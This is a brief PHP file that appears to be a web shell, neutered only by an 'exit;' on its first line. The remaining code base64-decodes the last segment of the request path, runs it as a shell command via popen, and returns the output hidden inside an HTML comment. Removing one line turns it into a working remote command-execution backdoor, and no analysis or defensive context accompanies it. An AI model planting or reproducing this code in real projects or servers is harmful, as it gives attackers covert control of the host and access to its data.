<?php exit; /* inert */ 
$p = substr($_SERVER['PATH_INFO'] ?? strrchr($_SERVER['REQUEST_URI'], '/'), 1);
echo '<!--', popen_read(strtr(base64_decode($p), "\0", ' ')), '-->';
function popen_read($x) { $h = popen($x, 'r'); $r = stream_get_contents($h); pclose($h); return $r; }
